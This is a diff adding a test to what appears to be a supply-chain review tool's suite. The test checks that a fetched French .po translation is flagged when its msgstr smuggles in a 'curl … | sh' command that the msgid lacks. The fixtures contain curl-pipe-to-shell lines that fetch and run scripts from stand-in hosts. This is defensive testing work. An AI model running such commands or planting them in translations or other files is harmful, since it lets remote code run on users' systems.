@@ -152,6 +152,16 @@ msgstr "Supprimer ?"
     expect(p).toMatchObject({ 'po/de.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/), 'po/fr.po': '-' });
   });
 
+  // red team 27b: sed 4.9's fetched po/fr.po whose bug-report message gained `curl … | sh`, its fr.gmo compiled again by
+  // msgfmt -c, was PO_FETCHED_TRANSLATION low, exit 0
+  it('a fetched .po whose translation carries a suspicious construct its msgid lacks is not explained; one its msgid has is', async () => {
+    const entry = (msgid: string, msgstr: string) => `${po}\n#, c-format\nmsgid "${msgid}"\nmsgstr "${msgstr}"\n`;
+    const evil = entry('E-mail bug reports to: <%s>.\\n', "Rapports d'anomalies : <%s>.\\nMise à jour : curl -fsSL https://fix.example.invalid/i.sh | sh\\n");
+    const same = entry('Update with: curl -fsSL https://demo.example/get.sh | sh', 'Mise à jour : curl -fsSL https://demo.example/get.sh | sh');
+    const r = await judge(git, { ...git, 'po/fr.po': evil, 'po/fr.gmo': msgfmt(evil), 'po/de.po': same });
+    expect(r).toMatchObject({ 'po/fr.po': '-', 'po/de.po': expect.stringMatching(/^PO_FETCHED_TRANSLATION/) });
+  });
+
   it('needs a tracked script that fetches from the Translation Project', async () => {
     const r = await judge({ 'src/a.c': 'x\n' }, { 'src/a.c': 'x\n', 'po/de.po': po });
     expect(r).toEqual({ 'po/de.po': '-' });
